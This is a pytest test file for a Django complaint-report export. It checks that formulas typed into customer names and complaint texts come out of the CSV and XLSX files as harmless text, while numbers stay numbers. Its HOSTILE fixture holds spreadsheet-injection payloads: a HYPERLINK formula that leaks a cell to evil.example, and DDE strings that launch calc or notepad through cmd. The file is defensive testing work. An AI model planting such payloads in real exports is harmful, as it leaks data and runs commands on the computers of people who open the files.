"""The monthly report's CSV and XLSX are safe to open in Excel: customer names and complaint texts typed as formulas
arrive as text (cac/platform/spreadsheet.py), while the figures, a negative one included, stay numbers."""

import csv
import io
from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cac.models import Customer, User
from cac.platform.spreadsheet import FORMULA_STARTS
from complaints.models import Complaint
from reports.models import MonthlyReport, Status
from reports.pdf import tables_csv, tables_xlsx
from reports.snapshot import report_snapshot
from reports.tables import Table

pytestmark = pytest.mark.django_db

HOSTILE = {
    "customer_a": '=HYPERLINK("http://evil.example/?leak="&A1,"点我领取保养券")',
    "customer_b": "@SUM(1+1)*cmd|' /C calc'!A0",
    "root_cause": "+cmd|' /C calc'!A0",
    "prevention": "-2+3+cmd|' /C notepad'!A0",
    "handler": "=1+1*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_report(march, dealer):
    """The hand-computed March, with formulas typed as names and texts where the report shows them."""
    c1, c2, c3 = march["c1"], march["c2"], march["c3"]
    Customer.objects.filter(pk=c2.customer_id).update(name=HOSTILE["customer_a"])
    Customer.objects.filter(pk=c3.customer_id).update(name=HOSTILE["customer_b"])
    Complaint.objects.filter(pk__in=[c1.pk, c2.pk]).update(
        root_cause=HOSTILE["root_cause"], prevention_measure=HOSTILE["prevention"]
    )
    User.objects.filter(pk=c1.owner_id).update(first_name=HOSTILE["handler"], last_name="")
    report = MonthlyReport.objects.create(
        month=date(2026, 3, 1),
        language="zh-hans",
        status=Status.READY,
        snapshot=report_snapshot(dealer_ids=[dealer.pk], month=date(2026, 3, 1)),
    )
    report.dealers.add(dealer)
    return report


@pytest.fixture
def director_client(client, make_user, dealer):
    client.force_login(make_user("director", dealer, username="director"))
    return client


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_the_csv_holds_the_typed_formulas_as_text(director_client, hostile_report):
    response = director_client.get(reverse("reports:csv", args=[hostile_report.pk]))
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if _dangerous(cell)] == []
    for value in HOSTILE.values():
        assert "'" + value in cells, value
    assert "4" in cells  # the figures are still there


def test_the_xlsx_holds_the_typed_formulas_as_text_and_no_formula(director_client, hostile_report):
    response = director_client.get(reverse("reports:xlsx", args=[hostile_report.pk]))
    workbook = load_workbook(BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts if _dangerous(text)] == []
    for value in HOSTILE.values():
        assert "'" + value in texts, value
    assert 4 in [cell.value for cell in cells]  # a figure is a number, not text


def test_negative_figures_stay_numbers_and_text_that_looks_like_one_does_not():
    table = Table(
        key="change",
        title="=变化",
        headers=["Figure", "Change"],
        rows=[["-5 text", -5], ["=1+1", -2.5], ["@me", 0], [None, 3]],
    )
    workbook = load_workbook(BytesIO(tables_xlsx([table])))
    sheet = workbook.worksheets[0]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["Figure", "Change"],
        ["'-5 text", -5],
        ["'=1+1", -2.5],
        ["'@me", 0],
        [None, 3],
    ]
    assert [sheet["B2"].data_type, sheet["B3"].data_type] == ["n", "n"]
    rows = list(csv.reader(io.StringIO(tables_csv([table]).lstrip("\ufeff"))))
    assert rows[:5] == [["'=变化"], ["Figure", "Change"], ["'-5 text", "-5"], ["'=1+1", "-2.5"], ["'@me", "0"]]
